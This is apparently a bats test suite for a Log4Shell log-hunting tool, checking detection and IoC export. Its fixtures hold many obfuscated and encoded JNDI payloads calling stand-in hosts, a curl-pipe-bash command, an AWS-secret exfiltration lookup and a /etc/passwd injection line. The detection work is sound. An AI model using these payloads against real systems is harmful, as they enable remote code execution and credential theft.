#!/usr/bin/env bats
# logs.bats - `kensa logs` on lines the tests write: every obfuscation
# family, decoding layers, carriers, callbacks, benign look-alikes,
# compressed and odd files.

bats_require_minimum_version 1.5.0
load helpers

setup_file() {
    export L="$BATS_FILE_TMPDIR/lg"
    mkdir -p "$L"
}

# attacks FILE: "line lookup" of each attack, sorted by line
attacks() {
    "$KENSA" logs --json --no-summary --threads 1 "$1" |
        jq -r 'select(.kensa.verdict=="attack") | "\(.kensa.line) \(.kensa.lookup)"' | sort -n
}

@test "a plain payload in a combined log: line, source, time, callback" {
    printf '%s\n' \
      '10.0.0.1 - - [11/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/7.0"' \
      '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' \
      > "$L/access.log"
    run k logs --json "$L/access.log"
    [ "$status" -eq 1 ]
    echo "$output" | jq_alerts '.kensa.verdict == "attack" and .kensa.line == 2
        and .source.ip == "203.0.113.7" and .kensa.log_time == "11/Dec/2021:10:00:01 +0000"
        and .threat.indicator.url.scheme == "ldap" and .threat.indicator.url.domain == "x.evil.example"
        and .threat.indicator.url.port == 1389 and .threat.indicator.url.path == "/a"
        and .threat.indicator.url.registered_domain == "evil.example" and .kensa.threat == "log4shell"
        and .event.dataset == "kensa.logs" and (.event.original | test("jndi"))'
}

@test "lookup semantics, not letter order: every obfuscation family" {
    cat > "$L/obf.txt" <<'X'
${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.evil.example/a}
${${::::::-j}ndi:ldap://x.evil.example/a}
${${ozI:Kgh:-j}ndi:ldap://x.evil.example/a}
${${${lower:l}ower:j}ndi:ldap://x.evil.example/a}
${jndi:ldap://x${lower:.}evil${lower:.}example/a}
${${lower:JN}${upper:d}${upper:ı}:ldap://x.evil.example/a}
${${date:'j'}ndi:ldap://x.evil.example/a}
${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x.evil.example/a}
${jNdI:ldap://x.evil.example/a}
${lower:$${jndi:ldap://x.evil.example/a}}
${${k8s:k5:-J}${sd:k5:-N}${main:x:-D}${spring:y:-I}:ldap://x.evil.example/a}
X
    run attacks "$L/obf.txt"
    [ "${#lines[@]}" -eq 11 ]
    for i in $(seq 0 10); do
        [ "${lines[$i]}" = "$((i + 1)) jndi:ldap://x.evil.example/a" ]
    done
}

@test "decoding layers before Log4j: URL, escapes, entities, mixed" {
    cat > "$L/enc.txt" <<'X'
%24%7Bjndi%3Aldap%3A%2F%2Fx.evil.example%2Fa%7D
%2524%257Bjndi%253Aldap%253A%252F%252Fx.evil.example%252Fa%257D
%252524%25257Bjndi:ldap://x.evil.example/a%25257D
$%7Bjndi:ldap://x.evil.example/a}
\u0024{jndi:ldap://x.evil.example/a}
\\u0024\\u007Bjndi:ldap://x.evil.example/a}
\044{jndi:ldap://x.evil.example/a}
&#36;{jndi:ldap://x.evil.example/a}
&#x24;&#123;jndi:ldap://x.evil.example/a}
&dollar;&lbrace;jndi:ldap://x.evil.example/a&rbrace;
%26%2336%3B%7Bjndi%3Aldap%3A%2F%2Fx.evil.example%2Fa%7D
X
    run "$KENSA" logs --json --no-summary "$L/enc.txt"
    [ "$(echo "$output" | jq -r 'select(.kensa.verdict=="attack") | .kensa.line' | sort -n | tr '\n' ' ')" = "1 2 3 4 5 6 7 8 9 10 11 " ]
    echo "$output" | jq_alerts '.kensa.lookup == "jndi:ldap://x.evil.example/a" and (.kensa.decoding | length > 0)'
}

@test "Base64 carriers and exploit-kit commands are decoded" {
    b=$(printf 'user:${jndi:ldap://x.evil.example/a}' | base64 -w0)
    c=$(printf 'curl -s 198.51.100.9/x.sh|bash' | base64 -w0)
    printf 'Authorization: Basic %s\n' "$b" > "$L/b64.txt"
    printf 'UA=${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/%s}\n' "$c" >> "$L/b64.txt"
    printf 'Authorization: Basic %s\n' "${b:0:17}" >> "$L/b64.txt"   # truncated: no crash
    run k logs --json "$L/b64.txt"
    [ "$status" -eq 1 ]
    echo "$output" | jq_any '.kensa.line == 1 and .kensa.decoding == "b64" and .kensa.verdict == "attack"'
    echo "$output" | jq_any '.kensa.line == 2 and .kensa.command == "curl -s 198.51.100.9/x.sh|bash"
        and .threat.indicator.url.domain == "198.51.100.9" and .threat.indicator.url.registered_domain == "198.51.100.9"'
}

@test "callbacks: exfiltration, CVE-2021-45046 host, ldap:/host, two payloads" {
    cat > "$L/cb.txt" <<'X'
${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}
${jndi:ldap://127.0.0.1#evil.example:1389/a}
${jndi:ldap:/x.evil.example/a}
a=${jndi:ldap://one.example/a} b=${jndi:rmi://two.example.co.jp:1099/b}
X
    run k logs --json "$L/cb.txt"
    echo "$output" | jq_any '.kensa.line == 1 and .kensa.exfil == true
        and .threat.indicator.url.domain == "${env:AWS_SECRET_ACCESS_KEY}.evil.example"
        and .threat.indicator.url.registered_domain == "evil.example"'
    echo "$output" | jq_any '.kensa.line == 2 and .threat.indicator.url.domain == "127.0.0.1#evil.example"
        and .threat.indicator.url.port == 1389'
    echo "$output" | jq_any '.kensa.line == 3 and .kensa.verdict == "attack" and .threat.indicator.url.domain == "x.evil.example"'
    [ "$(echo "$output" | jq -r 'select(.kensa.line == 4 and .kensa.verdict == "attack") | .threat.indicator.url.registered_domain' | sort | tr '\n' ' ')" = "example.co.jp one.example " ]
}

@test "not an attack: escapes, truncation, other lookups, shells, templates, hunters" {
    cat > "$L/benign.txt" <<'X'
$${jndi:ldap://x.evil.example/a}
${jndi:ldap://x.evil.example/a
${url:UTF-8:http://x.evil.example/a}
${base64:JHtqbmRpOmxkYXA6Ly94LmV2aWwuZXhhbXBsZS9hfQ==}
export PATH=${HOME}/bin:${PATH:-/usr/bin}
Hello ${user.name}, your order ${order.id} shipped
root@host:~# grep -r 'jndi:ldap' /var/log/nginx
GET /cgi-bin/x?cmd=${IFS}cat${IFS}/etc/passwd HTTP/1.1
${jndi:ldAp://x.evil.example/a}
${jndi:rmi}
${${::-${::-$${::-j}}}}
X
    run k logs --json "$L/benign.txt"
    [ "$(echo "$output" | jq -r 'select(.kensa.verdict=="attack") | .kensa.line' | wc -l)" -eq 0 ]
    # near misses Log4j would not run are at most suspicious
    echo "$output" | jq_any '.kensa.line == 1 and .kensa.verdict == "suspicious"'
    echo "$output" | jq_any '.kensa.line == 9 and .kensa.verdict == "suspicious"'
}

@test "compressed logs by content, whatever the name; rotated names" {
    printf 'x ${jndi:ldap://gz.evil.example/a}\n' > "$L/plain"
    for i in 1 2 3; do echo "filler line $i" >> "$L/plain"; done
    printf 'y ${jndi:ldap://gz.evil.example/b}\n' >> "$L/plain"
    mkdir -p "$L/rot"
    gzip -c "$L/plain" > "$L/rot/SystemOut.log-20211212"
    bzip2 -c "$L/plain" > "$L/rot/app.log.1"
    xz -c "$L/plain" > "$L/rot/app.log.2"
    run k logs --json "$L/rot"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | jq -r 'select(.kensa.verdict=="attack") | "\(.kensa.line)"' | sort | uniq -c | awk '{print $1 "x" $2}' | tr '\n' ' ')" = "3x1 3x5 " ]
    # a tarball of logs
    tar -C "$L" -czf "$L/logs.tgz" plain
    run attacks "$L/logs.tgz"
    [ "${lines[0]}" = "1 jndi:ldap://gz.evil.example/a" ]
    [ "${lines[1]}" = "5 jndi:ldap://gz.evil.example/b" ]
}

@test "megabyte lines, binary junk and invalid UTF-8" {
    python3 - "$L/big.log" <<'PY'
import sys
with open(sys.argv[1], 'wb') as f:
    f.write(b'\x00\xff\xfe binary \xc3\x28 junk\n')
    f.write(b'A' * (3 << 20) + b' ${jndi:ldap://long.evil.example/\xff\xfe}\n')
    f.write(b'\xe6\x97\xa5\xe6\x9c\xac ${jndi:ldap://utf.evil.example/a}\n')
PY
    run k logs --json "$L/big.log"
    [ "$status" -eq 1 ]
    echo "$output" | no_run | jq -e -s 'length == 2'
    echo "$output" | jq_any '.kensa.line == 2 and .threat.indicator.url.domain == "long.evil.example"'
    echo "$output" | jq_any '.kensa.line == 3'
}

@test "standard input" {
    run sh -c "printf 'a\n\${jndi:dns://stdin.evil.example}\n' | '$KENSA' logs --json --no-summary -"
    [ "$status" -eq 1 ]
    echo "$output" | jq_alerts '.kensa.line == 2 and .threat.indicator.url.scheme == "dns"'
}

@test "evidence beyond the string: multi-line records, Log4j errors, second stage" {
    cat > "$L/multi.log" <<'X'
{
  "one-${jnd${a":"a:-i}:ld${",
  "two":"o:-a}p://poly.evil.example/z}
}
2021-12-12 10:00:00 WARN Error looking up JNDI resource [ldap://192.0.2.5:1337/e]. javax.naming.NamingException
	at org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:128)
GET /ExploitQ8v7ygBW4i.class HTTP/1.1 | User-Agent: Java/1.8.0_181
X
    run k logs --json "$L/multi.log"
    echo "$output" | jq_any '.kensa.line == 2 and .kensa.verdict == "attack" and .threat.indicator.url.domain == "poly.evil.example"'
    echo "$output" | jq_any '.kensa.line == 5 and .kensa.verdict == "attack" and .threat.indicator.url.domain == "192.0.2.5"
        and .kensa.log_time == "2021-12-12 10:00:00"'
    echo "$output" | jq_any '.kensa.line == 6 and .kensa.verdict == "suspicious"'
    echo "$output" | jq_any '.kensa.line == 7 and .kensa.verdict == "attack"'
}

@test "summary and --export-iocs as CSV and STIX 2.1" {
    run "$KENSA" logs --threads 1 --export-iocs "$L/iocs.csv" "$L/access.log" "$L/b64.txt"
    [ "$status" -eq 1 ]
    [[ "$output" == *"Log hunt summary"* && "$output" == *"callback hosts"* ]]
    [[ "$output" == *"203.0.113.7"* && "$output" == *"curl -s 198.51.100.9/x.sh|bash"* ]]
    grep -q '^"host","x.evil.example"' "$L/iocs.csv"
    grep -q '^"ip","203.0.113.7","attack source"' "$L/iocs.csv"
    grep -q '^"command",' "$L/iocs.csv"
    run "$KENSA" logs --quiet --export-iocs "$L/iocs.json" "$L/access.log"
    jq -e '.type == "bundle" and (.objects | length >= 2)
        and any(.objects[]; .pattern == "[domain-name:value = '"'"'x.evil.example'"'"']")
        and all(.objects[]; .spec_version == "2.1" and (.id | startswith("indicator--")))' "$L/iocs.json"
}

@test "IoC tables: first and last seen in ISO 8601 with the zone (local in text, UTC in --iocs)" {
    T="$BATS_TEST_TMPDIR/t"; mkdir -p "$T"
    printf '%s\n' \
      '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example/a} HTTP/1.1" 200 5 "-" "c"' \
      '203.0.113.7 - - [11/Dec/2021:12:30:00 +0100] "GET /?q=${jndi:ldap://x.evil.example/b} HTTP/1.1" 200 5 "-" "c"' \
      > "$T/access.log"
    TZ=Asia/Tokyo run --separate-stderr "$KENSA" logs --threads 1 --color never --no-summary \
        --export-iocs "$T/iocs.csv" "$T/access.log"
    [ "$status" -eq 1 ]
    [[ "$output" == *"access.log: 2 hits, first 2021-12-11T19:00:01+09:00, last 2021-12-11T20:30:00+09:00"* ]]
    ! grep 'hits, first' <<<"$output" | grep -q 'Dec/2021'
    grep -qF '"file","'"$T"'/access.log","attacked log, first 2021-12-11T10:00:01Z, last 2021-12-11T11:30:00Z","2"' "$T/iocs.csv"
    TZ=UTC run --separate-stderr "$KENSA" logs --threads 1 --color never --no-summary --lang ja "$T/access.log"
    [[ "$output" == *"初回 2021-12-11T10:00:01Z"* ]]
    # the summary speaks Japanese from the catalog: counts as 「攻撃 2 件、疑わしい 0 件」
    grep -qxF '攻撃 2 件、疑わしい 0 件' <<<"$output"
    grep -qF "access.log：2 件、初回 2021-12-11T10:00:01Z、最終 2021-12-11T11:30:00Z" <<<"$output"
    grep -qxF '== ログ調査のまとめ（Log4Shell） ==' <<<"$output"
    ! grep -qE '^(attacks|top source|callback hosts|decoded commands)' <<<"$output"
}

@test "kensa scan reads logs in log folders, and --log-path adds more" {
    mkdir -p "$L/host/app/logs" "$L/host/data"
    echo '${jndi:ldap://scan.evil.example/a}' > "$L/host/app/logs/server.out"
    echo '${jndi:ldap://scan.evil.example/a}' > "$L/host/data/notes.txt"
    run k scan --json "$L/host"
    [ "$(echo "$output" | count_alerts)" -eq 1 ]
    run k scan --json --log-path "$L/host/data" "$L/host"
    [ "$(echo "$output" | count_alerts)" -eq 2 ]
}

# ---- accurate verdicts (issue 9) ---------------------------------------

@test "an unclosed \${jndi: is never joined with the next record" {
    printf '%s\n' \
      '2021-12-12 10:00:00 INFO user=${jndi:ldap://glue.evil.example/a' \
      '2021-12-12 10:00:01 INFO done } ok' \
      '10.0.0.1 - - [12/Dec/2021:10:00:02 +0000] "GET /?q=${jndi:ldap://two.evil.example/a HTTP/1.1" 200 5' \
      '10.0.0.2 - - [12/Dec/2021:10:00:03 +0000] "GET /} HTTP/1.1" 200 5' \
      > "$L/unclosed.log"
    run k logs --json "$L/unclosed.log"
    [ "$(attacks "$L/unclosed.log")" = "" ]
    echo "$output" | jq_alerts '.kensa.verdict == "suspicious"'
    [ "$(echo "$output" | count_alerts)" -eq 2 ]
    # a record that really goes on (indented, or closing brackets) still joins
    printf '%s\n' '2021-12-12 10:00:00 INFO user=${jndi:ldap://cont.evil.example/a' '}' \
        > "$L/cont.log"
    [ "$(attacks "$L/cont.log")" = "1 jndi:ldap://cont.evil.example/a" ]
}

@test "a JSON record's own brace never closes a payload in one of its strings" {
    printf '%s\n' \
      '{"@timestamp":"2021-12-12T10:00:00Z","msg":"${jndi:ldap://x.evil.example/a"}' \
      '{"a":"${jndi:ldap://p.evil.example/a","b":"}"}' \
      '{"msg":"${jndi:ldap://q.evil.example/a\" more","x":"}"}' \
      > "$L/json-open.log"
    run k logs --json "$L/json-open.log"
    [ "$(attacks "$L/json-open.log")" = "" ]
    echo "$output" | jq_alerts '.kensa.verdict == "suspicious"'
    # a payload whole inside a value is an attack, JSON escapes undone
    printf '%s\n' \
      '{"@timestamp":"2021-12-12T10:00:00Z","client_ip":"203.0.113.9","msg":"${jndi:ldap://j.evil.example/a}"}' \
      '{"msg":"\u0024{jndi:ldap://u.evil.example/a}","n":1,"ok":true,"z":null}' \
      '  {"h":{"k":["${jndi:rmi://n.evil.example/a}"]}}' \
      > "$L/json.log"
    [ "$(attacks "$L/json.log")" = "1 jndi:ldap://j.evil.example/a
2 jndi:ldap://u.evil.example/a
3 jndi:rmi://n.evil.example/a" ]
    run k logs --json "$L/json.log"
    echo "$output" | jq_any '.kensa.line == 1 and .source.ip == "203.0.113.9"
        and .kensa.log_time == "2021-12-12T10:00:00Z"'
}

@test "a callback host from a query string is reported decoded" {
    printf '%s\n' \
      '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://127.0.0.1%23evil.example:1389/a} HTTP/1.1" 200 5' \
      > "$L/pct.log"
    run k logs --json "$L/pct.log"
    [ "$status" -eq 1 ]
    echo "$output" | jq_alerts '.threat.indicator.url.domain == "127.0.0.1#evil.example"
        and .threat.indicator.url.port == 1389'
}

@test "attack records: the line's own time in UTC, the request, the callback as destination and indicator, ATT&CK and the CVE" {
    L="$BATS_TEST_TMPDIR"
    printf '%s\n' '203.0.113.7 - - [11/Dec/2021:19:00:01 +0900] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' \
        '2021-12-12 10:00:00,123 WARN ${jndi:rmi://192.0.2.5:1099/e}' \
        '{"@timestamp":"2021-12-12T10:00:00.5+01:00","remote_addr":"gw.example","request_method":"POST","status":500,"http_user_agent":"${jndi:dns://n.evil.example/a}"}' \
        > "$L/a.log"
    TZ=Asia/Tokyo run k logs --json "$L/a.log"
    [ "$status" -eq 1 ]
    echo "$output" | jq_any '.kensa.line == 1 and ."@timestamp" == "2021-12-11T10:00:01Z"
        and (.event.created | startswith("20")) and .event.created != ."@timestamp"
        and .kensa.log_time == "11/Dec/2021:19:00:01 +0900"
        and .http.request.method == "GET" and .http.response.status_code == 200
        and .url.original == "/?q=${jndi:ldap://x.evil.example:1389/a}"
        and .user_agent.original == "curl/7.0"
        and .destination.domain == "x.evil.example" and .destination.port == 1389
        and .threat.indicator.type == "url"
        and .threat.indicator.url.original == "ldap://x.evil.example:1389/a"
        and .threat.technique.id == ["T1190"] and .threat.tactic.id == ["TA0001"]
        and .vulnerability.id == ["CVE-2021-44228"]
        and .related.ip == ["203.0.113.7"] and .related.hosts == ["x.evil.example"]'
    # no zone: the host's local time (TZ), fraction kept; an address callback
    echo "$output" | jq_any '.kensa.line == 2 and ."@timestamp" == "2021-12-12T01:00:00.123Z"
        and .destination.ip == "192.0.2.5" and .destination.port == 1099
        and (has("http") | not) and (has("url") | not)'
    # JSON: a name as client goes to source.address and related.hosts
    echo "$output" | jq_any '.kensa.line == 3 and ."@timestamp" == "2021-12-12T09:00:00.500Z"
        and .source.address == "gw.example" and (.source | has("ip") | not)
        and .http.request.method == "POST" and .http.response.status_code == 500
        and (.related.hosts | index("gw.example") != null)'
    echo "$output" | python3 "$KENSA_TOP/tests/helpers/ecs_check.py"
}
